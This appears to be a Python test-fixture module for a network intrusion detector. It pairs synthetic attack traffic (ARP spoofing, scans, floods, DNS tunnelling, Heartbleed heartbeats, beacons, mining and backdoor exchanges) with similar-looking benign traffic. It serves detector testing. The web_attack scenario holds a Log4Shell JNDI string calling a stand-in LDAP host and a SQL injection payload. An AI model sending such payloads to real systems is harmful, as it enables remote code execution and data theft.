"""One attack for each detector and, beside it, its near twin: ordinary traffic that looks much like it.

``netscope detect-test`` plays them, and so do the tests. Each starts after a short prologue in which the router and a
desktop make themselves known.
"""

from __future__ import annotations

import heapq
from collections.abc import Iterable, Iterator
from itertools import chain
from typing import Final, NamedTuple

from netscope.demo import conversations, hello, scenarios
from netscope.demo.attack_dialogues import REPORT, SHELL, answers_for, asks_router, heartbeat, reflected, says
from netscope.demo.attack_traffic import (
    DAY,
    HOUR,
    PROLOGUE_NS,
    STRANGER,
    Play,
    after,
    announce,
    arp_spoof,
    arrives,
    asks_for_ten,
    big_upload,
    busy_browser,
    busy_server,
    contact,
    content_network,
    datagrams,
    dhcp_clients,
    flaps,
    late_answers,
    mistyped,
    named_and_dead,
    odd_segments,
    old_ends,
    own_router,
    pings,
    pings_with_data,
    prologue,
    resolves,
    returns,
    roams,
    rogue_dhcp,
    spread,
    stealth,
    sweep,
    two_claim,
    udp_scan,
    virtual_router,
    visit,
    watching,
)
from netscope.demo.cast import (
    BEACON_SERVER,
    DESKTOP,
    GUEST,
    LAPTOP,
    NAS,
    PLUG,
    PRINTER,
    ROUTER,
    SERVERS,
    Device,
)
from netscope.demo.evening import Evening
from netscope.demo.hello import TLS12
from netscope.demo.household import Household
from netscope.demo.synthesis import DEFAULT_START_NS
from netscope.demo.tcp import DOWN, UP, Connection
from netscope.demo.wire import (
    ACK,
    FIN,
    MINUTE,
    MS,
    PSH,
    SECOND,
    SYN,
    Frame,
    Frames,
)


class Scenario(NamedTuple):
    detector: str
    severity: str
    """The attack makes an alert of at least this; the twin none so severe."""
    attack: Play
    twin: Play
    twin_words: str
    listed: dict[str, str] | None = None
    """Fingerprints on the user's list."""


def play(home: Household, start_ns: int, what: Play) -> list[Frame]:
    """The prologue and what follows, in the order of time."""
    return sorted(chain(prologue(home, start_ns), what(home, start_ns + PROLOGUE_NS)), key=lambda frame: frame[0])


def quiet_evening(seed: int, minutes: int) -> Iterator[Frame]:
    """The demo's evening without its troubles: people, habits and the noise of a network."""
    home = Household(seed, DEFAULT_START_NS)
    evening = Evening(home, minutes)
    strands = (*evening.arrivals(), *evening.neighbourhood(), *evening.habits(), *evening.people())
    return heapq.merge(*strands)


# -- behaviour ---------------------------------------------------------------------------------------------------------


def _beacon(home: Household, at_ns: int) -> Frames:
    return scenarios.beacon(home, PLUG, BEACON_SERVER, at_ns, count=30, port=4444)


def _clock(home: Household, at_ns: int) -> Frames:
    for index in range(30):
        yield from conversations.ntp(home, PLUG, "pool.ntp.org", at_ns + index * 64 * SECOND)


def _uploads(megabytes: int) -> Play:
    def frames(home: Household, at_ns: int) -> Frames:
        for hour in range(0, 30, 6):
            yield from contact(home, NAS, STRANGER, 443, at_ns + hour * HOUR)
        yield from big_upload(home, NAS, STRANGER, at_ns + 31 * HOUR, megabytes)

    return frames


def _after_a_week(before: Play, after: Play) -> Play:
    def frames(home: Household, at_ns: int) -> Iterator[Frame]:
        yield from before(home, at_ns)
        yield from watching(at_ns, 8 * DAY)
        yield from after(home, at_ns + 8 * DAY)

    return frames


def _calls(device: Device, address: str) -> Play:
    return lambda home, at_ns: contact(home, device, address, 443, at_ns)


def _serves(port: int) -> Play:
    def frames(home: Household, at_ns: int) -> Frames:
        connection = conversations.connect_local(home, DESKTOP, PRINTER, port, at_ns)
        yield from connection.open()
        yield from connection.send(UP, b"\x01ask")
        yield from connection.send(DOWN, b"\x02answer")
        yield from connection.close()

    return frames


def _greets(profile: hello.ClientProfile) -> Play:
    return lambda home, at_ns: conversations.fetch(home, PLUG, "a1.tuyaeu.com", at_ns, profile=profile)


def _mails(servers: int) -> Play:
    def frames(home: Household, at_ns: int) -> Frames:
        for index in range(24):
            address = f"203.0.113.{index % servers + 1}"
            yield from contact(home, PLUG, address, 25, at_ns + index * SECOND, b"EHLO plug\r\n", b"220 mx ready\r\n")

    return frames


def _stays(port: int) -> Play:
    def frames(home: Household, at_ns: int) -> Frames:
        far, own = conversations.far_end(STRANGER), home.port(PLUG)
        connection = Connection(
            PLUG.end(), own, far, port, start_ns=at_ns, rtt_ns=20 * MS, stack=PLUG.stack, rng=home.rng("stays")
        )
        yield from connection.open()
        for _ in range(75):
            yield from connection.send(UP, b"\x17\x03still here")
            yield from connection.send(DOWN, b"\x17\x03good")
            connection.wait(5 * MINUTE)
        yield from connection.close()

    return frames


def _evenings(usual_megabytes: int, last_megabytes: int) -> Play:
    """Fifteen days with so much at the same hour, then one."""

    def frames(home: Household, at_ns: int) -> Frames:
        yield from watching(at_ns, 16 * DAY, 30 * MINUTE)
        for day in range(16):
            megabytes = last_megabytes if day == 15 else usual_megabytes
            if megabytes:
                yield from big_upload(home, LAPTOP, STRANGER, at_ns + day * DAY, megabytes)
            else:
                yield at_ns + day * DAY, announce(LAPTOP)

    return frames


def _holes(share: int) -> Play:
    """Sixty connections in a quarter of an hour; every so many misses a segment."""

    def frames(home: Household, at_ns: int) -> Frames:
        request = b"GET / HTTP/1.1\r\nHost: nas\r\nCookie: " + b"c" * 6000 + b"\r\n\r\n"
        for index in range(60):
            connection = conversations.connect_local(home, LAPTOP, NAS, 80, at_ns + index * SECOND)
            yield from connection.open()
            sent = list(connection.send(UP, request))
            yield from sent[:1] if index % share == 0 else sent
            yield from sent[2:] if index % share == 0 else ()
            yield from connection.close()
        yield at_ns + 20 * MINUTE, announce(PRINTER)
        yield at_ns + 40 * MINUTE, announce(PRINTER)

    return frames


# -- encryption and exposure -------------------------------------------------------------------------------------------


def _certificate(own: bool) -> Play:
    def frames(home: Household, at_ns: int) -> Frames:
        server = SERVERS["api.roku.com"]
        connection = conversations.connect(home, PLUG, server, 443, at_ns)
        yield from connection.open()
        chain_shown = home.authority.self_signed(server.name, "Nobody", -40) if own else None
        yield from conversations.greet(home, connection, server.name, hello.WINDOWS, TLS12, chain_shown)
        yield from connection.close()

    return frames


def _cipher(suite: int) -> Play:
    def frames(home: Household, at_ns: int) -> Frames:
        server, rng = SERVERS["api.roku.com"], home.rng(f"cipher {suite}")
        connection = conversations.connect(home, PLUG, server, 443, at_ns)
        yield from connection.open()
        opening = hello.client_hello(hello.EMBEDDED, server.name, rng)
        yield from connection.send(UP, hello.record(hello.CONTENT_HANDSHAKE, opening, 0x0301))
        connection.turn()
        reply = hello.server_hello(TLS12, suite, rng)
        yield from connection.send(DOWN, hello.record(hello.CONTENT_HANDSHAKE, reply))
        yield from connection.close()

    return frames


def _login(home: Household, at_ns: int) -> Frames:
    return scenarios.clear_text_login(home, DESKTOP, STRANGER, at_ns)


def _sealed(home: Household, at_ns: int) -> Frames:
    return conversations.fetch(home, DESKTOP, "github.com", at_ns)


def _asks(paths: Iterable[str], status: str = "200 OK", **body: object) -> Play:
    def frames(home: Household, at_ns: int) -> Frames:
        for index, path in enumerate(paths):
            yield from conversations.http_get(
                home,
                LAPTOP,
                "detectportal.firefox.com",
                path,
                at_ns + index * SECOND,
                status=status,
                **body,  # type: ignore[arg-type]
            )

    return frames


def _fetches(name: str) -> Play:
    return lambda home, at_ns: conversations.http_get(
        home, LAPTOP, name, "/pool/setup.exe", at_ns, content_type="application/x-msdownload", body_bytes=50_000
    )


def _posts(paths: Iterable[str]) -> Play:
    def frames(home: Household, at_ns: int) -> Frames:
        for index, path in enumerate(paths):
            head = f"POST {path} HTTP/1.1\r\nHost: shop.example.org\r\nContent-Length: 4\r\n\r\nabcd"
            reply = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
            yield from contact(home, LAPTOP, STRANGER, 80, at_ns + index * 3 * SECOND, head.encode(), reply)

    return frames


def _logins(home: Household, at_ns: int) -> Frames:
    return scenarios.login_attempts(home, GUEST, NAS, at_ns, count=40)


def _works(home: Household, at_ns: int) -> Frames:
    for index in range(5):
        connection = conversations.connect_local(home, LAPTOP, NAS, 22, at_ns + index * MINUTE)
        yield from conversations.ssh(home, LAPTOP, connection, keystrokes=30, banner="SSH-2.0-OpenSSH_9.2p1")


def _speaks(data: bytes) -> Play:
    reply = b'{"id":1,"result":true,"error":null}\n'
    return lambda home, at_ns: contact(home, PLUG, STRANGER, 3333, at_ns, data, reply)


STRATUM: Final = b'{"id":1,"jsonrpc":"2.0","method":"mining.subscribe","params":["miner/1.0"]}\n'

EMBEDDED_JA3: Final = "b59e6a3d9e338a108b4f875f5da21392"
"""Of the plug's hello."""

SCENARIOS: Final = (
    Scenario("new_device", "medium", arrives(130 * MINUTE), arrives(5 * MINUTE), "who is met while learning"),
    Scenario("gateway_spoof", "critical", arp_spoof, virtual_router, "routers that share a virtual MAC"),
    Scenario("address_conflict", "medium", two_claim, roams, "a phone that roams to a repeater and back"),
    Scenario("port_scan", "high", lambda h, t: scenarios.port_scan(h, GUEST, NAS, t, open_ports=(22,)), busy_browser,
             "a busy browser and one dead service"),
    Scenario("host_sweep", "high", sweep, named_and_dead, "forty servers by name, all down"),
    Scenario("arp_sweep", "medium", lambda h, t: scenarios.arp_sweep(GUEST, t), asks_for_ten, "a device that wakes"),
    Scenario("udp_scan", "high", udp_scan, late_answers, "answers to a client that has gone"),
    Scenario("stealth_scan", "high", stealth, old_ends, "the ends of old connections"),
    Scenario("os_probe", "medium", odd_segments((0, SYN | FIN, FIN | PSH)), odd_segments((FIN, FIN | ACK)),
             "an old connection that ends"),
    Scenario("syn_flood", "high", lambda h, t: scenarios.syn_flood(h, NAS, t, count=3000, gap_ns=5 * MS), busy_server,
             "a busy server"),
    Scenario("icmp_flood", "high", pings(4000, 5 * MS), pings(60, SECOND), "a person's ping"),
    Scenario("icmp_tunnel", "high", pings_with_data((100, 900), 80), pings_with_data((1_400, 1_400), 80),
             "a link test with large pings"),
    Scenario("udp_flood", "high", datagrams(12_000, 2 * MS, answered=False), datagrams(12_000, 2 * MS, answered=True),
             "a call"),
    Scenario("reflection", "high", reflected(asks=False), reflected(asks=True), "a resolver that asks as many"),
    Scenario("rogue_dhcp", "high", rogue_dhcp(GUEST), rogue_dhcp(ROUTER), "the router's own server"),
    Scenario("dhcp_flood", "high", dhcp_clients(150), dhcp_clients(12), "a household that comes home"),
    Scenario("rogue_router", "high", lambda h, t: scenarios.rogue_router(GUEST, t, count=3), own_router, "the router"),
    Scenario("mac_flapping", "medium", flaps((10, 20) * 6), flaps((10, 10, 20, 20)), "a device that is moved"),
    Scenario("device_returned", "low", returns(40), returns(10), "back from a holiday"),
    Scenario("dns_tunnel", "high",
             lambda h, t: scenarios.dns_tunnel(h, GUEST, "t.example.net", t, queries=200),
             lambda h, t: scenarios.dns_tunnel(h, GUEST, "avqs.mcafee.com", t, queries=200), "antivirus look-ups"),
    Scenario("nxdomain_storm", "high", lambda h, t: scenarios.generated_domains(h, GUEST, t, count=40), mistyped,
             "mistyped names"),
    Scenario("name_spoof", "high", answers_for(("fileserver", "printsrv", "intranet", "scanner")),
             answers_for(("guest-laptop", "workgroup")), "a host's own names"),
    Scenario("dns_rebinding", "high", resolves("evil.example-page.net", ("203.0.113.9", "192.168.1.1")),
             resolves("192-168-1-5.abcd.plex.direct", ("192.168.1.5",) * 2), "a maker's name for a device at home"),
    Scenario("resolver_bypass", "medium",
             after(130 * MINUTE, resolves("www.example.org", ("93.184.215.14",),
                                          resolver=conversations.far_end("203.0.113.53"))),
             resolves("www.example.org", ("93.184.215.14",)), "the router's resolver"),
    Scenario("fast_flux", "medium", spread, content_network, "a content network"),
    Scenario("beacon", "high", _beacon, _clock, "setting the clock"),
    Scenario("certificate", "medium", _certificate(own=True), _certificate(own=False), "a good certificate"),
    Scenario("weak_tls", "medium", _cipher(0x0001), _cipher(0xC02B), "a strong cipher"),
    Scenario("heartbleed", "high", heartbeat(16_384, 0, 16_000), heartbeat(16, 32, 32), "an honest heartbeat"),
    Scenario("listed_fingerprint", "high", _greets(hello.EMBEDDED), _greets(hello.FIREFOX), "another program",
             {EMBEDDED_JA3: "test entry"}),
    Scenario("clear_credentials", "medium", _login, _sealed, "a log-in under TLS"),
    Scenario("personal_url", "low", _asks(("/w?lat=52.5163&lon=13.3777",)), _asks(("/w?city=berlin",)), "a city"),
    Scenario("brute_force", "high", _logins, _works, "someone who works by SSH"),
    Scenario("web_scan", "high", _asks([f"/admin{index}.php" for index in range(30)], "404 Not Found"),
             _asks([f"/page{index}" for index in range(30)]), "someone who reads"),
    Scenario("web_attack", "high", _asks(("/?id=${jndi:ldap://203.0.113.9/a}", "/?id=1'+or+1=1--")),
             _asks(("/search?q=union+select+committee", "/it's+$5;+really")), "search words"),
    Scenario("program_download", "medium", _fetches("a1.tuyaeu.com"), _fetches("deb.debian.org"), "an update service"),
    Scenario("http_callback", "high", _posts([f"/x9k2mq7tz.php?k=r{index}tz8qwx4kpl" for index in range(4)]),
             _posts(["/api/telemetry"] * 4), "a program's telemetry"),
    Scenario("mining", "medium", _speaks(STRATUM), _speaks(b'{"cmd":"status"}\n'), "another program's JSON"),
    Scenario("backdoor", "high", says(SHELL), says(REPORT), "a program that tells its system's version"),
    Scenario("port_mapping", "medium",
             asks_router("AddPortMapping", ("NewExternalPort", "3389"), ("NewProtocol", "TCP"),
                         ("NewInternalPort", "3389"), ("NewInternalClient", LAPTOP.address)),
             asks_router("GetExternalIPAddress"), "a program that asks for the network's address"),
    Scenario("inbound", "medium", lambda h, t: visit(h, STRANGER, NAS, 22, t, accepted=True),
             lambda h, t: visit(h, STRANGER, NAS, 22, t, accepted=False), "a closed door"),
    Scenario("upload", "medium", _uploads(160), _uploads(20), "an ordinary evening"),
    Scenario("new_place", "low", _after_a_week(_calls(PLUG, "3.121.31.200"), _calls(PLUG, BEACON_SERVER)),
             _after_a_week(_calls(PLUG, "3.121.31.200"), _calls(PLUG, "3.121.31.201")), "the same maker's network"),
    Scenario("new_service", "medium", _after_a_week(_serves(631), _serves(2323)),
             _after_a_week(_serves(631), _serves(631)), "the service it always had"),
    Scenario("hello_change", "low", _after_a_week(_greets(hello.EMBEDDED), _greets(hello.FIREFOX)),
             _after_a_week(_greets(hello.EMBEDDED), _greets(hello.EMBEDDED)), "the program it always had"),
    Scenario("fan_out", "high", _mails(20), _mails(1), "one mail server"),
    Scenario("long_connection", "low", _stays(4444), _stays(8883), "a line for push messages"),
    Scenario("unusual_traffic", "low", _evenings(0, 90), _evenings(60, 90), "an hour that is always busy"),
    Scenario("sensor", "medium", _holes(2), _holes(30), "a hole now and then"),
)  # fmt: skip
